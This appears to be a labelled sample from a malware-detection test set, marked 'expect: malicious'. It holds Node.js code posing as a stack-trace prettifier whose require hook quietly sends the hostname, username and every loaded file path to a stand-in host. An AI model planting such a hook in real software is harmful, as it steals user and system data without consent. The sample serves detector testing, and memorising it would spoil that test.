// expect: malicious
// source: blind set 19 (a stack-trace prettifier whose require hook, set when it is loaded, reports the host and the
// files every later require loads to a host it names)
const Module = require('module');
const os = require('os');
const https = require('https');

const orig = Module._extensions['.js'];
function hooked(module, filename) {
  const req = https.request({ host: 'frames.stack.example', path: '/v2', method: 'POST' });
  req.on('error', () => {});
  req.end(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, f: filename }));
  return orig(module, filename);
}
Module._extensions['.js'] = hooked;
